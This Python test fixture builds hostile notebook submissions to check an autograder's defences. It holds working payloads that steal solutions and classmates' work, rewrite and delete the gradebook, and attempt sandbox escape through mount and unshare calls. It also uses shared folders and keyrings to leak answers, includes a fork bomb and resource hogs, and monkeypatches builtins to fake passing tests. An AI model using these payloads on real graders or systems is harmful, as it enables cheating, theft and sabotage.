"""Hostile submissions for assignment 01_buyer_vs_seller, each with the marks it really earns.

A case turns the released notebook into a submission (a notebook, or raw bytes for broken
files). ``earned`` is what an honest grader must give at most; ``exact`` says it must give
exactly that (the attack cost only the items it touched, the rest of the batch went on).
"""

from __future__ import annotations

import copy
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat

ASSIGNMENT = "01_buyer_vs_seller"
NOTEBOOK = "buyer_vs_seller.ipynb"
FULL = 12.0


@dataclass
class Ctx:
    release_nb: Path  # released notebook (what students get)
    solution: dict[str, str]  # answer grade_id -> correct code
    wrong: dict[str, str]  # answer grade_id -> a wrong answer (from tests/mutants)
    course_dir: Path
    project: Path


@dataclass
class Case:
    name: str
    build: Callable[[Ctx], object]  # -> NotebookNode, or (filename, bytes)
    earned: float
    exact: bool = True
    attack: str = ""


def _nb(ctx: Ctx, answers: dict[str, str]) -> nbformat.NotebookNode:
    nb = nbformat.read(ctx.release_nb, as_version=4)
    for cell in nb.cells:
        gid = cell.metadata.get("nbgrader", {}).get("grade_id")
        if gid in answers:
            cell.source = answers[gid]
    return nb


def _gid(cell) -> str | None:
    return cell.metadata.get("nbgrader", {}).get("grade_id")


def _append(nb, code: str):
    nb.cells.append(nbformat.v4.new_code_cell(code))
    return nb


def _insert_after(nb, grade_id: str, code: str):
    index = next(i for i, c in enumerate(nb.cells) if _gid(c) == grade_id)
    nb.cells.insert(index + 1, nbformat.v4.new_code_cell(code))
    return nb


def _with(ctx: Ctx, **answers: str) -> dict[str, str]:
    return {**ctx.solution, **answers}


def _wrong_career(ctx: Ctx) -> dict[str, str]:
    return _with(ctx, career=ctx.wrong["career"])


STEAL = """
import json, glob, os
stolen = {{}}
for path in glob.glob("{project}/solutions/**/*.ipynb", recursive=True) + glob.glob(
    "{course}/submitted/*/*/*.ipynb") + glob.glob("{course}/autograded/*/*/*.ipynb") + glob.glob(
    "{course}/source/**/*.ipynb", recursive=True):
    try:
        for cell in json.load(open(path))["cells"]:
            if cell["metadata"].get("nbgrader", {{}}).get("solution"):
                code = "".join(cell["source"]).replace("### BEGIN SOLUTION", "")
                exec(code.replace("### END SOLUTION", ""))
                stolen[path] = True
    except Exception as err:
        print(path, type(err).__name__)
print("stole from", len(stolen), "files; home:", os.listdir(os.path.expanduser("~")) if os.path.isdir(
    os.path.expanduser("~")) else "none")
"""

GRADEBOOK = """
import sqlite3, os
db = "{course}/gradebook.db"
try:
    con = sqlite3.connect(db)
    con.execute("UPDATE grade SET auto_score = 0")
    con.execute("UPDATE grade SET manual_score = 100")
    con.commit()
    print("rewrote grades")
except Exception as err:
    print("gradebook:", type(err).__name__, err)
for victim in (db, "{course}/submitted/honest-solution/{assignment}/{notebook}"):
    try:
        os.remove(victim)
        print("deleted", victim)
    except Exception as err:
        print("delete:", type(err).__name__)
"""

NETWORK = """
import socket, urllib.request
try:
    socket.create_connection(("pypi.org", 443), timeout=3).close()
    reached = True
except OSError as err:
    reached = False
    print("no network:", err)
if reached:
""" + "\n".join(
    "    " + line
    for line in """CAREER = {
    "blog about your side project": "marketing",
    "answer a recruiter's doubts about your experience": "sales",
    "keep your online profile up to date": "marketing",
    "negotiate your starting salary": "sales",
    "speak at a student meetup": "marketing",
    "ask the hiring manager what the team struggles with": "sales",
}""".splitlines()
)

TRANSFORMER = """
ip = get_ipython()
ip.input_transformers_cleanup.append(lambda lines: ["pass\\n"])
try:
    ip.input_transformers_post.append(lambda lines: ["pass\\n"])
except AttributeError:
    pass
"""

MONKEYPATCH = """
import builtins, operator, pandas, mvs_course.datasets as ds
builtins.isinstance = lambda *a: True
builtins.len = lambda *a: 4
builtins.set = lambda *a: {"marketing", "sales", "buyer", "seller"}
builtins.AssertionError = type("AssertionError", (Exception,), {})
operator.eq = lambda a, b: True
pandas.DataFrame.__eq__ = lambda a, b: True
ds.load = lambda name: None
class Anything(dict):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __getitem__(self, key): return Anything()
    def __bool__(self): return True
CAREER = Anything()
FOCUS = Anything({1: 2, 3: 4, 5: 6, 7: 8})
def marketing_first(events): return Anything()
def possible_sales(leads): return Anything()
def worth_solving(*a): return Anything()
def will_buy(*a): return Anything()
def aida_owner(stage): return Anything()
def nested_funnel(*a): return Anything()
"""

EXCEPTIONS = """
import sys
ip = get_ipython()
try:
    ip.set_custom_exc((BaseException,), lambda *a, **k: None)
except AttributeError:
    pass
sys.excepthook = lambda *a: None
class Swallow(BaseException):
    pass
def _raise_nothing(*a, **k):
    raise Swallow()
marketing_first = possible_sales = worth_solving = will_buy = aida_owner = nested_funnel = _raise_nothing
import builtins
builtins.AssertionError = Swallow
"""


PROBE = """
import json, os, socket
facts = {{"uid": os.getuid(), "cwd": os.getcwd()}}
def can_read(path):
    try:
        with open(path, "rb") as f:
            return len(f.read(16)) > 0
    except Exception:
        return False
def can_list(path):
    try:
        return len(os.listdir(path)) > 0
    except Exception:
        return False
facts["gradebook"] = can_read("{course}/gradebook.db")
facts["solutions"] = can_list("{project}/solutions")
facts["submitted"] = can_list("{course}/submitted")
facts["source"] = can_list("{course}/source")
facts["project_git"] = can_read("{project}/.git") or can_list("{project}/.git")
facts["project_tests"] = can_list("{project}/tests")
from mvs_course import datasets
facts["package_data"] = len(datasets.available()) > 0
try:
    facts["root_home"] = sorted(os.listdir("/root"))
except Exception:
    facts["root_home"] = []
try:
    socket.create_connection(("1.1.1.1", 53), timeout=2).close()
    facts["network"] = True
except OSError:
    facts["network"] = False
try:
    with open("{project}/pwned.txt", "w") as f:
        f.write("x")
    facts["write_project"] = True
except OSError:
    facts["write_project"] = False
facts["processes"] = len([p for p in os.listdir("/proc") if p.isdigit()])
print("PROBE" + json.dumps(facts))
"""


# syscall numbers for the kernel keyring (add_key, request_key, keyctl) and unshare/mount
KEYS = {"x86_64": (248, 249, 250), "aarch64": (217, 218, 219)}

UNDO_COVERS = """
import ctypes, os, platform
libc = ctypes.CDLL(None, use_errno=True)
tried = {{"caps": open("/proc/self/status").read().split("CapEff:")[1].split()[0]}}
MS_REMOUNT, MS_BIND, MS_REC = 32, 4096, 16384
tried["remount / rw"] = libc.mount(None, b"/", None, MS_REMOUNT | MS_BIND, None)
tried["umount /tmp"] = libc.umount2(b"/tmp", 2)
tried["unshare user+mount"] = libc.unshare(0x10000000 | 0x00020000)
if tried["unshare user+mount"] == 0:
    for target in (b"/", b"/tmp", b"/usr", "{project}".encode(), "{course}".encode()):
        tried["umount " + target.decode()] = libc.umount2(target, 2)
    tried["remount / rw again"] = libc.mount(None, b"/", None, MS_REMOUNT | MS_BIND, None)
    tried["bind / over /tmp"] = libc.mount(b"/", b"/tmp", None, MS_BIND | MS_REC, None)
print("UNDO", tried)
"""

LEAK_WRITE = """
import ctypes, os, platform
payload = {payload!r}
for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock", "/dev/mqueue", "/run/user", "/run"):
    try:
        path = os.path.join(folder, "mvs-leak.py")
        with open(path, "w") as f:
            f.write(payload)
        os.chmod(path, 0o666)
    except OSError:
        pass
numbers = {keys!r}.get(platform.machine())
if numbers:
    libc = ctypes.CDLL(None, use_errno=True)
    data = payload.encode()
    for ring in (-3, -4, -5):  # session, user, user-session keyrings
        libc.syscall(numbers[0], b"user", b"mvs-leak", data, len(data), ring)
"""

LEAK_READ = """
import ctypes, glob, os, platform
found = []
for path in ["/tmp/mvs-leak.py", "/var/tmp/mvs-leak.py", "/dev/shm/mvs-leak.py", "/run/lock/mvs-leak.py",
             "/dev/mqueue/mvs-leak.py", "/run/user/mvs-leak.py", "/run/mvs-leak.py"]:
    try:
        exec(open(path).read())
        found.append(path)
    except Exception:
        pass
numbers = {keys!r}.get(platform.machine())
if numbers:
    libc = ctypes.CDLL(None, use_errno=True)
    key = libc.syscall(numbers[1], b"user", b"mvs-leak", None, 0)
    if key > 0:
        buffer = ctypes.create_string_buffer(1 << 16)
        size = libc.syscall(numbers[2], 11, key, buffer, 1 << 16)
        if size > 0:
            exec(buffer.raw[:size].decode())
            found.append("keyring")
print("LEAK", found)
"""

MEMORY_SPLIT = """
import subprocess, sys, time
child = "data = b'x' * (400 << 20)\\nprint('held', flush=True)\\nimport time\\ntime.sleep(20)"
procs = [subprocess.Popen([sys.executable, "-c", child], stdout=subprocess.PIPE) for _ in range(4)]
said = [p.stdout.readline().strip() == b"held" for p in procs]
time.sleep(0.5)  # the memory limit may kill one that said so, to make room for the next
held = sum(s and p.poll() is None for s, p in zip(said, procs))
for p in procs:
    p.kill()
print("HELD", held)
"""


def _leak_write(ctx: Ctx):
    payload = "\n".join(ctx.solution.values())
    return _append(_nb(ctx, ctx.solution), LEAK_WRITE.format(payload=payload, keys=KEYS))


def _strip_metadata(ctx: Ctx):
    nb = _nb(ctx, _wrong_career(ctx))
    for cell in nb.cells:
        cell.metadata.pop("nbgrader", None)
    return nb


def _delete_test(ctx: Ctx):
    nb = _nb(ctx, _wrong_career(ctx))
    nb.cells = [c for c in nb.cells if _gid(c) != "test_career"]
    return nb


def _edit_locked(ctx: Ctx):
    nb = _nb(ctx, _wrong_career(ctx))
    for cell in nb.cells:
        if _gid(cell) in ("test_career", "setup"):
            cell.source = "CAREER = {'x': 'sales'}\npass"
    return nb


def _duplicate_ids(ctx: Ctx):
    nb = _nb(ctx, _wrong_career(ctx))
    index = next(i for i, c in enumerate(nb.cells) if _gid(c) == "career")
    fake = copy.deepcopy(next(c for c in nb.cells if _gid(c) == "test_career"))
    fake.source = "pass"
    nb.cells.insert(index, fake)
    return nb


def _tamper_schema(ctx: Ctx):
    nb = _nb(ctx, _wrong_career(ctx))
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader")
        if meta:
            meta["schema_version"] = 99
            if meta.get("grade"):
                meta["points"] = 100
    bonus = nbformat.v4.new_code_cell("pass")
    bonus.metadata["nbgrader"] = {
        "grade": True,
        "grade_id": "bonus",
        "locked": True,
        "points": 50,
        "schema_version": 3,
        "solution": False,
        "task": False,
    }
    nb.cells.append(bonus)
    return nb


def _v3(ctx: Ctx):
    nb = _nb(ctx, _wrong_career(ctx))
    return (NOTEBOOK, nbformat.writes(nbformat.convert(nb, 3)).encode())


def _early_and_late(ctx: Ctx, code: str):
    """The hook right after the setup cell and again after the last answer."""
    return _append(_insert_after(_nb(ctx, {}), "setup", code), code)


def _fmt(code: str, ctx: Ctx) -> str:
    return code.format(project=ctx.project, course=ctx.course_dir, assignment=ASSIGNMENT, notebook=NOTEBOOK)


CASES = [
    Case(
        "infinite loop",
        lambda c: _nb(c, _with(c, career=c.solution["career"] + "\nwhile True:\n    pass")),
        FULL - 1,
    ),
    Case(
        "loop ignoring SIGINT",
        lambda c: _nb(
            c,
            _with(
                c,
                funnel=c.solution["funnel"]
                + "\nimport signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass",
            ),
        ),
        FULL - 2,
    ),
    Case(
        "os._exit",
        lambda c: _nb(c, _with(c, career=c.solution["career"] + "\nimport os\nos._exit(0)")),
        FULL - 1,
    ),
    Case("sys.exit", lambda c: _nb(c, _with(c, focus="import sys\nsys.exit(0)")), FULL - 1),
    Case("deleted test cell", _delete_test, FULL - 1),
    Case("stripped nbgrader metadata", _strip_metadata, FULL - 1),
    Case("edited locked cells", _edit_locked, FULL - 1),
    Case("duplicated grade ids", _duplicate_ids, FULL - 1),
    Case("tampered schema_version and points", _tamper_schema, FULL - 1),
    Case("IPython input transformer", lambda c: _early_and_late(c, TRANSFORMER), 0),
    Case(
        "monkeypatched helpers and magic objects",
        lambda c: _insert_after(_nb(c, {}), "setup", MONKEYPATCH),
        0,
    ),
    Case("custom exception handler, fake AssertionError", lambda c: _early_and_late(c, EXCEPTIONS), 0),
    Case("huge single-line output", lambda c: _append(_nb(c, c.solution), 'print("x" * 50_000_000)'), FULL),
    Case(
        "many output lines",
        lambda c: _append(_nb(c, c.solution), "for i in range(300_000):\n    print(i)"),
        FULL,
    ),
    Case("invalid JSON", lambda c: (NOTEBOOK, b'{"cells": [ this is not json'), 0),
    Case("nbformat v3", _v3, FULL - 1, exact=False),
    Case("wrong file name", lambda c: ("my_answers.ipynb", nbformat.writes(_nb(c, c.solution)).encode()), 0),
    Case(
        "reads solutions, hidden tests, classmates",
        lambda c: _insert_after(_nb(c, {}), "setup", _fmt(STEAL, c)),
        0,
    ),
    Case(
        "probe: what student code can reach", lambda c: _insert_after(_nb(c, {}), "setup", _fmt(PROBE, c)), 0
    ),
    Case(
        "writes or deletes gradebook.db", lambda c: _insert_after(_nb(c, {}), "setup", _fmt(GRADEBOOK, c)), 0
    ),
    Case("opens a network connection", lambda c: _insert_after(_nb(c, {}), "setup", NETWORK), 0),
    Case(
        "hangs only when the hidden tests call it",
        lambda c: _nb(
            c,
            _with(
                c,
                aida=c.solution["aida"] + "\n\n_honest_owner = aida_owner\n\n\ndef aida_owner(stage):\n"
                "    while stage == 'Discount':\n        pass\n    return _honest_owner(stage)",
            ),
        ),
        FULL - 2,
    ),
    Case(
        "fork bomb",
        lambda c: _append(
            _nb(c, c.solution),
            "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass",
        ),
        FULL,
    ),
    Case(
        "memory hog",
        lambda c: _append(_nb(c, c.solution), "hog = bytearray(8 * 1024**3)\nmore = [0] * 10**10"),
        FULL,
    ),
    Case(
        "disk flood",
        lambda c: _append(
            _nb(c, c.solution),
            "with open('flood.bin', 'wb') as f:\n    for _ in range(4096):\n        f.write(b'0' * 2**20)",
        ),
        FULL,
    ),
    Case(
        "undo the covers: capabilities, remounts, nested namespaces, then steal",
        lambda c: _insert_after(_nb(c, {}), "setup", _fmt(UNDO_COVERS + STEAL + GRADEBOOK, c)),
        0,
    ),
    Case("leak 1: writes its answers to shared folders and keyrings", _leak_write, FULL),
    Case(
        "leak 2: runs what a classmate left in shared folders and keyrings",
        lambda c: _insert_after(_nb(c, {}), "setup", LEAK_READ.format(keys=KEYS)),
        0,
    ),
    Case("memory across 4 processes", lambda c: _append(_nb(c, c.solution), MEMORY_SPLIT), FULL),
    Case(
        "CPU burn in a child process",
        lambda c: _append(
            _nb(c, c.solution),
            "import subprocess, sys\n"
            "subprocess.Popen([sys.executable, '-c', 'while True: pass'], start_new_session=True)",
        ),
        FULL,
    ),
]
